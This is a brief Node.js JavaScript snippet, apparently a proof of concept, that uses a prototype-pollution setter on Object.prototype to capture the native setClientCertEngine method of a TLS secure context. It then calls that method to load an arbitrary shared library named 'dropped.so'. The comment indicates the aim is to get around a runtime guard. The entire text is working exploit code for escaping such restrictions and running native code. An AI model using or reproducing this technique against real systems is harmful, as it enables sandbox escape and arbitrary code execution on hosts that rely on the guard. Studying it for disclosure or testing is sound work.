// A context that is made for the guard gives its C++ side away.
let load;
Object.defineProperty(Object.prototype, 'context', {
  configurable: true,
  set(value) {
    load ??= Object.getPrototypeOf(value).setClientCertEngine;
    Object.defineProperty(this, 'context', { value, writable: true, configurable: true });
  },
});
const { context } = require('tls').createSecureContext();
load.call(context, __dirname + '/dropped.so');
